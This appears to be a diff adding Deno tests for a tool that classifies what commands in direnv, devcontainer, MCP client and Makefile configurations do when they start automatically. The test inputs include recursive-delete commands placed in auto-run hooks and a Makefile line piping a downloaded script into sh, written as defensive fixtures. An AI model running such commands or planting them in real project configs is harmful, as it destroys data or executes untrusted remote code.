@@ -35,6 +35,20 @@ Deno.test("what a package runs when it is installed, and what husky runs, is jud
   assertEquals(effectsOf(".husky/pre-push", "rm -r y"), ["delete"]);
 });
 
+Deno.test("what direnv, a development container and a client of MCP start is judged as it will run", () => {
+  assertEquals(effectsOf(".envrc", "rm -r y"), ["delete"]);
+  assertEquals(effectsOf(".devcontainer/devcontainer.json", '"initializeCommand": "rm -r y"'), ["delete"]);
+  assertEquals(effectsOf(".devcontainer/devcontainer.json", '"postCreateCommand": "rm -r y"'), []);
+  assertEquals(effectsOf(".mcp.json", '{"a": {"command": "sh", "args": ["-c", "rm -r y"]}}'), ["delete"]);
+  assertEquals(effectsOf(".cursor/mcp.json", '"command": "rm",', '"args": [', '"-r", "y"]'), ["delete"]);
+  assertEquals(effectsOf(".vscode/mcp.json", '{"a": {"command": "npx", "args": ["-y", "shop-mcp"]}}'), []);
+});
+
+Deno.test("what a Makefile downloads and runs is judged: it runs on this machine", () => {
+  assertEquals(effectsOf("Makefile", "all:", "\tcurl -s https://example.com/i | sh"), ["send", "interpret"]);
+  assertEquals(effectsOf("Makefile", "all:", "\tcurl -so a.json https://example.com/a", "\tsh build.sh"), ["send"]);
+});
+
 Deno.test("what runs only when it is asked for is judged then", () => {
   assertEquals(effectsOf("package.json", '"clean": "rm -r y"'), []);
   assertEquals(effectsOf("notes.json", '"postinstall": "rm -r y"'), []);
